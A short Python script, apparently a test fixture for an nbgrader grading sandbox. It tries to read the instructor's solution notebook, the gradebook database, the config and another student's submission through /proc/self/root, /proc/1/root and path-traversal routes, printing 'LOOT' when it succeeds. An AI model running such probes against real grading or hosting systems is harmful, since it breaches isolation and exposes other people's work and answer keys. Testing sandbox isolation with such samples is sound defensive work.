import os
import subprocess

for path in ("@COURSE@/source/computation_graph/computation_graph.ipynb", "@COURSE@/gradebook.db", "@COURSE@/nbgrader_config.py",
             "@COURSE@/submitted/a-honest-student/computation_graph/computation_graph.ipynb"):
    for way in (path, "/proc/self/root" + path, "/proc/1/root" + path, "/proc/1/cwd/../../../../.." + path):
        try:
            with open(way) as file:
                print("LOOT" + ":", len(file.read()))
        except OSError:
            pass
        if subprocess.run(["cat", way], capture_output=True).returncode == 0:
            print("LOOT" + ":", way)
    print(os.path.exists(path))
